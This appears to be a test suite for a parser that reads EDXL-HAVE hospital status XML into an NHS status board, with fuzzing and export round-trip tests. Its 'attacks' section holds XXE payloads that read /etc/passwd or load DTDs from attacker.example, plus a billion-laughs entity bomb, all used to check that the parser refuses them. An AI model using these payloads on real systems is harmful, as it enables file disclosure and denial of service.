import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalUpdateSchema, EMPTY_STATUS, projectSiteStatus, type SiteStatus, type StoredStatus } from '@pb/shared';
import { loadReferenceData } from '@pb/shared/node';
import { buildEdxlHave } from '../../../server/src/export/edxl-have.js';
import { validateAgainstHaveSchema } from '../../../test/support/xml-validation.js';
import { normaliseEdxlHave } from './edxl-have.js';

const reference = loadReferenceData();
const here = (path: string) => fileURLToPath(new URL(path, import.meta.url));
const EXAMPLES = here('../../../shared/data/edxl-have/examples/');
const NHS_STATUS = readFileSync(here('./fixtures/nhs-hospital-status.xml'), 'utf8');
const NHS_DE = readFileSync(here('./fixtures/nhs-edxl-de.xml'), 'utf8');
const HAVE_2_0 = readFileSync(here('./fixtures/have-2.0-namespace.xml'), 'utf8');

describe('EDXL-HAVE fixtures', () => {
  it('our NHS fixtures are valid EDXL-HAVE 1.0 (validated against the schema)', async () => {
    expect(await validateAgainstHaveSchema(NHS_STATUS)).toEqual({ valid: true, errors: [] });
    // The HospitalStatus inside the EDXL-DE envelope declares its own namespaces, so it stands alone.
    const embedded = NHS_DE.slice(NHS_DE.indexOf('<have:HospitalStatus'), NHS_DE.indexOf('</have:HospitalStatus>') + '</have:HospitalStatus>'.length);
    expect(await validateAgainstHaveSchema(`<?xml version="1.0" encoding="UTF-8"?>\n${embedded}`)).toEqual({ valid: true, errors: [] });
  });

  it('a schema-invalid document fails the validation, so the check above can fail', async () => {
    const invalid = await validateAgainstHaveSchema(NHS_STATUS.replace('<h:ClinicalStatus>Full', '<h:ClinicalStatus>Level2'));
    expect(invalid.valid).toBe(false);
    expect(invalid.errors.join('\n')).toMatch(/ClinicalStatus.*Level2/);
  });

  it('reads each NHS hospital: identifier first, then exact name', () => {
    const result = normaliseEdxlHave(NHS_STATUS, reference);
    expect(result).toEqual({
      ok: true,
      updates: [
        {
          update: {
            site: 'RHU03',
            observedAt: '2026-01-03T09:15:00Z',
            opel: 4,
            incident: { level: 'business_continuity' },
            ed: { status: 'divert', reason: 'No cubicles & corridor care' },
            metrics: { handoverMeanMin: 95, criticalCareOccupancyPct: 87.5, gaOccupancyPct: 99.7 },
          },
          source: 'edxl-have',
          inferred: false,
        },
        {
          update: { site: 'RHM01', observedAt: '2026-01-03T10:15:00+01:00', opel: 1, ed: { status: 'open' } },
          source: 'edxl-have',
          inferred: false,
        },
        {
          update: { site: 'RXH01', observedAt: '2026-01-03T08:00:00.000Z', incident: { level: 'major' }, ed: { status: 'closed', reason: 'facility evacuating' } },
          source: 'edxl-have',
          inferred: false,
        },
      ],
      parts: ['Hospital[0]', 'Hospital[1]', 'Hospital[2]'],
      partErrors: [],
    });
  });

  it('reads HospitalStatus inside an EDXL-DE envelope, with our closed/divertTo/OPEL/incident conventions', () => {
    const result = normaliseEdxlHave(NHS_DE, reference);
    expect(result).toEqual({
      ok: true,
      updates: [
        {
          update: {
            site: 'RYR18',
            observedAt: '2026-01-03T09:15:00Z',
            opel: 3,
            incident: { level: 'critical', reason: 'flooding' },
            ed: { status: 'closed', divertTo: ['RYR16', 'RXH01'], reason: 'flooding' },
          },
          source: 'edxl-have',
          inferred: false,
        },
      ],
      parts: ['Hospital[0]'],
      partErrors: [],
    });
  });

  it.each(['EDXL-HAVE1.hospitalstatus.xml', 'EDXL-HAVE1.edxl-de.xml'])('rejects the OASIS example %s whole: its hospitals are not NHS sites', (name) => {
    const result = normaliseEdxlHave(readFileSync(join(EXAMPLES, name), 'utf8'), reference);
    expect(result).toEqual({
      ok: false,
      errors: [
        { path: 'Hospital[0]', message: 'no ODS site code among its identifiers and no site is called "Hospital 1"' },
        { path: 'Hospital[1]', message: 'no ODS site code among its identifiers and no site is called "Hospital 2"' },
      ],
    });
  });

  it.each(['EDXL-HAVE1.hospitalstatus.xml', 'EDXL-HAVE1.edxl-de.xml'])(
    'applies the first hospital of the OASIS example %s and rejects only its second, unknown one',
    (name) => {
      // As with PB_SITES_FILE naming a site "Hospital 1": the first hospital is matched by name.
      const extended = withReference([{ code: 'ZZZ01', name: 'Hospital 1' }]);
      const result = normaliseEdxlHave(readFileSync(join(EXAMPLES, name), 'utf8'), extended);
      expect(result).toEqual({
        ok: true,
        // Its burn-bed count is not a status this board reads, but the hospital reported at that time.
        updates: [{ update: { site: 'ZZZ01', observedAt: '2010-11-11T14:59:12.390-05:00' }, source: 'edxl-have', inferred: false }],
        parts: ['Hospital[0]'],
        partErrors: [{ path: 'Hospital[1]', message: 'no ODS site code among its identifiers and no site is called "Hospital 2"' }],
      });
    },
  );

  it('applies the other hospitals when one cannot be matched, rejecting only that one with its reason', () => {
    const bad = NHS_STATUS.replace('Southampton General Hospital', 'St Elsewhere');
    const result = normaliseEdxlHave(bad, reference);
    expect(result).toMatchObject({ ok: true, parts: ['Hospital[0]', 'Hospital[2]'], partErrors: [{ path: 'Hospital[1]', message: expect.stringMatching(/St Elsewhere/) }] });
    expect(result.ok && result.updates.map((item) => item.update.site)).toEqual(['RHU03', 'RXH01']);
  });

  it('rejects only the hospital whose organisation name is shared by two sites', () => {
    const ambiguous = withReference([{ code: 'ZZZ01', name: 'Southampton General Hospital' }]);
    const result = normaliseEdxlHave(NHS_STATUS, ambiguous);
    expect(result).toMatchObject({ ok: true, partErrors: [{ path: 'Hospital[1]', message: expect.stringMatching(/more than one site \(RHM01, ZZZ01\)/) }] });
    expect(result.ok && result.updates.map((item) => item.update.site)).toEqual(['RHU03', 'RXH01']);
  });

  it('rejects the message whole when every hospital is rejected', () => {
    const bad = NHS_STATUS.replace('Southampton General Hospital', 'St Elsewhere').replace('>rhu03<', '>zzz99<').replace('The Royal Sussex County Hospital', 'Nowhere');
    const result = normaliseEdxlHave(bad, reference);
    expect(result).toMatchObject({ ok: false, errors: [{ path: 'Hospital[0]' }, { path: 'Hospital[1]' }, { path: 'Hospital[2]' }] });
  });

  it('refuses EDXL-HAVE 2.0 with its reason instead of reading it as 1.0', () => {
    const result = normaliseEdxlHave(HAVE_2_0, reference);
    expect(result).toEqual({
      ok: false,
      errors: [{ message: expect.stringMatching(/^EDXL-HAVE 2\.0 \(namespace urn:oasis:names:tc:emergency:edxl:have:2\.0\) is not read: this board reads EDXL-HAVE 1\.0/) }],
    });
    // The same message in the 1.0 namespace is read: only the version decides.
    const asOneZero = HAVE_2_0.replace('urn:oasis:names:tc:emergency:edxl:have:2.0', 'urn:oasis:names:tc:emergency:EDXL:HAVE:1.0');
    expect(normaliseEdxlHave(asOneZero, reference)).toMatchObject({ ok: true, updates: [{ update: { site: 'RHU03', ed: { status: 'divert' } } }] });
    // Inside an EDXL-DE envelope, and under any prefix, too.
    const enveloped = NHS_DE.replace(/urn:oasis:names:tc:emergency:EDXL:HAVE:1\.0/, 'urn:oasis:names:tc:emergency:edxl:have:2.0');
    expect(normaliseEdxlHave(enveloped, reference)).toMatchObject({ ok: false, errors: [{ message: expect.stringMatching(/EDXL-HAVE 2\.0/) }] });
  });

  it.each([
    [NHS_STATUS.replace('<h:ClinicalStatus>Full', '<h:ClinicalStatus>Level2'), { opel: 3 }],
    [NHS_STATUS.replace('<h:ClinicalStatus>Full', '<h:ClinicalStatus>Level1'), { opel: 2 }],
    [NHS_STATUS.replace('<h:EMSTrafficStatus>Closed', '<h:EMSTrafficStatus>NotApplicable'), { ed: { status: 'not_applicable', reason: 'No cubicles & corridor care' } }],
    [NHS_STATUS.replace('<h:FacilityStatus>Compromised', '<h:FacilityStatus>Closed'), { incident: { level: 'major' }, ed: { status: 'closed', reason: 'facility closed' } }],
  ])('maps coded values (%#)', (xml, expected) => {
    const result = normaliseEdxlHave(xml, reference);
    expect(result.ok && result.updates[0]!.update).toMatchObject(expected);
  });

  it.each([
    [NHS_STATUS.replace('<h:ClinicalStatus>Full', '<h:ClinicalStatus>Busy'), /ClinicalStatus/, /"Busy" is not/],
    [NHS_STATUS.replace('<h:EMSTrafficStatus>Closed', '<h:EMSTrafficStatus>Shut'), /EMSTrafficStatus/, /"Shut" is not/],
    [NHS_STATUS.replace('2026-01-03T09:15:00Z', '2026-01-03T09:15:00'), /observedAt/, /zone/],
    [NHS_STATUS.replace('2026-01-03T09:15:00Z', '2026-02-30T09:15:00Z'), /observedAt/, /calendar/],
    [NHS_STATUS.replace('<h:EMSOffloadMinutes>95', '<h:EMSOffloadMinutes>10000'), /handoverMeanMin/, /10,000/],
    [NHS_STATUS.replace('<h:EMSOffloadMinutes>95', '<h:EMSOffloadMinutes>ninety'), /EMSOffloadMinutes/, /whole number/],
    [NHS_STATUS.replace('<h:AvailableCount>2</h:AvailableCount>', '<h:AvailableCount>20</h:AvailableCount>'), /AdultICU/, /more than BaselineCount/],
  ])('rejects the hospital with out-of-range or unknown values (%#), naming it and the reason; the others apply', (xml, path, message) => {
    const result = normaliseEdxlHave(xml, reference);
    expect(result).toMatchObject({ ok: true, parts: ['Hospital[1]', 'Hospital[2]'] });
    if (result.ok) expect(result.partErrors).toContainEqual({ path: expect.stringMatching(path), message: expect.stringMatching(`^RHU03: .*${message.source}`) });
  });

  it.each([
    ['<have:HospitalStatus xmlns:have="urn:oasis:names:tc:emergency:EDXL:HAVE:1.0"></have:HospitalStatus>', /no Hospital/],
    ['<EDXLDistribution><contentObject><xmlContent><embeddedXMLContent><HospitalStatus/></embeddedXMLContent></xmlContent></contentObject></EDXLDistribution>', /no Hospital/],
    ['<EDXLDistribution><distributionID>x</distributionID></EDXLDistribution>', /no HospitalStatus/],
    ['<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>', /no HospitalStatus/],
    ['<HospitalStatus><Hospital>', /not well-formed/],
    ['', /not well-formed|no HospitalStatus/],
    ['just text', /not well-formed|no HospitalStatus/],
  ])('rejects %j', (xml, message) => {
    const result = normaliseEdxlHave(xml, reference);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.errors[0]!.message).toMatch(message);
  });
});

describe('EDXL-HAVE attacks', () => {
  it.each([
    ['external entity (XXE)', `<?xml version="1.0"?>\n<!DOCTYPE HospitalStatus [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<HospitalStatus><Hospital><Organization><OrganizationInformation><OrganisationName><NameElement>&xxe;</NameElement></OrganisationName></OrganizationInformation></Organization><LastUpdateTime>2026-01-03T09:15:00Z</LastUpdateTime></Hospital></HospitalStatus>`],
    ['billion laughs', `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n]>\n<HospitalStatus><Hospital><Organization><OrganizationInformation><OrganisationName><NameElement>&lol4;</NameElement></OrganisationName></OrganizationInformation></Organization><LastUpdateTime>2026-01-03T09:15:00Z</LastUpdateTime></Hospital></HospitalStatus>`],
    ['parameter entity', `<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><HospitalStatus/>`],
    ['lower-case doctype', `<!doctype HospitalStatus><HospitalStatus/>`],
    ['doctype inside the envelope', NHS_DE.replace('<EDXLDistribution', '<!DOCTYPE EDXLDistribution SYSTEM "http://attacker.example/de.dtd">\n<EDXLDistribution')],
  ])('refuses %s outright, with a reason', (_name, xml) => {
    const result = normaliseEdxlHave(xml, reference);
    expect(result).toEqual({ ok: false, errors: [{ message: expect.stringMatching(/DOCTYPE or ENTITY declaration is refused/) }] });
  });

  it('never expands an undeclared entity reference', () => {
    const xml = NHS_STATUS.replace('No cubicles &amp; corridor care', '&xxe; and &#65;');
    const result = normaliseEdxlHave(xml, reference);
    expect(result.ok && result.updates[0]!.update.ed?.reason).toBe('&xxe; and A');
  });

  it('refuses absurdly deep nesting without throwing', () => {
    const xml = `${'<a>'.repeat(5_000)}${'</a>'.repeat(5_000)}`;
    expect(normaliseEdxlHave(xml, reference).ok).toBe(false);
  });
});

describe('EDXL-HAVE round trip with the export', () => {
  const sites = reference.sites.slice(0, 40);
  const mix: Partial<StoredStatus>[] = [
    { opel: 1, ed: { status: 'open', divertTo: [] } },
    { opel: 2, incident: { level: 'critical', reason: 'industrial action', declaredAt: '2026-01-03T07:00:00Z' } },
    { opel: 3, ed: { status: 'divert', divertTo: ['RHM01'], reason: 'no cubicles' } },
    { opel: 4, incident: { level: 'major' }, ed: { status: 'closed', divertTo: ['RHM01', 'RYR18'] } },
    { incident: { level: 'business_continuity', reason: 'IT outage' }, ed: { status: 'advisory', divertTo: [], reason: 'CT down' } },
    { incident: { level: 'none' }, ed: { status: 'not_applicable', divertTo: [] }, metrics: { handoverMeanMin: 42 } },
    { ed: { status: 'divert', divertTo: [] } },
  ];
  const statuses: SiteStatus[] = sites.map((site, index) =>
    projectSiteStatus(site, { ...EMPTY_STATUS, ...mix[index % mix.length], observedAt: `2026-01-03T0${index % 10}:15:00.000Z` }, Date.parse('2026-01-03T10:00:00Z'), 360),
  );

  it('reads back every axis the export writes', () => {
    const xml = buildEdxlHave(statuses, reference.byCode, new Date('2026-01-03T10:00:00Z'));
    const result = normaliseEdxlHave(xml, reference);
    if (!result.ok) throw new Error(JSON.stringify(result.errors));
    expect(result.updates).toHaveLength(statuses.length);
    result.updates.forEach(({ update }, index) => {
      const status = statuses[index]!;
      expect(update.site).toBe(status.site);
      expect(update.observedAt).toBe(status.observedAt);
      expect(update.opel).toBe(status.opel ?? undefined);
      expect(update.incident?.level).toBe(status.incident?.level);
      expect(update.incident?.reason).toBe(status.incident?.level === 'none' ? undefined : status.incident?.reason);
      expect(update.ed?.status).toBe(status.ed?.status);
      expect(update.ed?.reason).toBe(status.ed?.reason);
      expect(update.ed?.divertTo ?? []).toEqual(status.ed?.divertTo ?? []);
      expect(update.metrics?.handoverMeanMin).toBe(status.metrics.handoverMeanMin);
    });
  });

  it('skips the export\'s "no status" hospitals instead of inventing a status', () => {
    const unknown = projectSiteStatus(sites[0]!, EMPTY_STATUS, Date.now(), 360);
    const xml = buildEdxlHave([unknown, statuses[1]!], reference.byCode, new Date('2026-01-03T10:00:00Z'));
    const result = normaliseEdxlHave(xml, reference);
    expect(result.ok && result.updates.map((item) => item.update.site)).toEqual([statuses[1]!.site]);
    expect(normaliseEdxlHave(buildEdxlHave([unknown], reference.byCode, new Date()), reference)).toMatchObject({ ok: false, errors: [{ message: expect.stringMatching(/no Hospital in the message carries a status/) }] });
  });
});

describe('EDXL-HAVE fuzzing', () => {
  const values = ['Normal', 'Advisory', 'Closed', 'NotApplicable', 'Full', 'Level1', 'Level2', 'Compromised', 'Evacuating', '-5', '99999', '1e3', '2026-01-03T09:15:00Z', 'RHU03', 'Southampton General Hospital', '&amp;', '&lt;', '<', ''];
  it('never throws and never accepts an out-of-range update, whatever the values', () => {
    const leaves = ['EMSTrafficStatus', 'EMSTrafficReason', 'EMSOffloadMinutes', 'ClinicalStatus', 'FacilityStatus', 'AvailableCount', 'BaselineCount', 'LastUpdateTime', 'NameElement', 'IdentifierElement', 'CommentText'];
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.constantFrom(...leaves), fc.oneof(fc.constantFrom(...values), fc.string({ maxLength: 20 }))), { maxLength: 8 }), (changes) => {
        let xml = NHS_STATUS;
        for (const [leaf, value] of changes) xml = xml.replace(new RegExp(`(<[a-z]+:${leaf}[^>]*>)[^<]*(</)`), (_all, open: string, close: string) => `${open}${value}${close}`);
        assertSafe(xml);
      }),
      { numRuns: 1_000 },
    );
  });

  it('never throws on arbitrary text or XML-ish noise', () => {
    const noise = fc.array(fc.constantFrom('<', '>', '/', 'Hospital', 'HospitalStatus', 'EDXLDistribution', '<!--', '-->', '<![CDATA[', ']]>', '&', ';', '"', '=', ' ', 'x:', 'LastUpdateTime', '2026-01-03T09:15:00Z', 'RHU03'), { maxLength: 60 }).map((parts) => parts.join(''));
    fc.assert(fc.property(fc.oneof(fc.string({ maxLength: 200 }), noise), assertSafe), { numRuns: 2_000 });
    fc.assert(
      fc.property(fc.anything(), (body) => {
        expect(() => normaliseEdxlHave(body, reference)).not.toThrow();
      }),
    );
  });

  function assertSafe(xml: string) {
    const result = normaliseEdxlHave(xml, reference);
    if (result.ok) {
      for (const { update, source } of result.updates) {
        expect(canonicalUpdateSchema.safeParse(update).success).toBe(true);
        expect(source).toBe('edxl-have');
      }
      expect(result.parts).toHaveLength(result.updates.length);
    } else {
      expect(result.errors.length).toBeGreaterThan(0);
    }
  }
});

function withReference(extra: { code: string; name: string }[]) {
  const base = reference.sites[0]!;
  const sites = [...reference.sites, ...extra.map((site) => ({ ...base, ...site }))];
  const byCode = new Map(sites.map((site) => [site.code, site]));
  return { ...reference, sites, byCode };
}
